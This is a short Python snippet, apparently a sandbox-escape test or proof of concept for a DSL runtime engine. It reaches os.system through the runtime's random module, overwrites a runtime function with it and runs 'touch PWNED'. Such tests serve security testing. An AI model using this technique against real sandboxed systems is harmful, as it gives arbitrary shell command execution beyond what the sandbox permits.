# Attack: store `os.system` over a runtime function, then call that function as engines do.
from dsl.runtime import engine as _rt
from dsl.runtime.engine import random as r

_rt.gap = r._os.system
_rt.gap("touch PWNED")
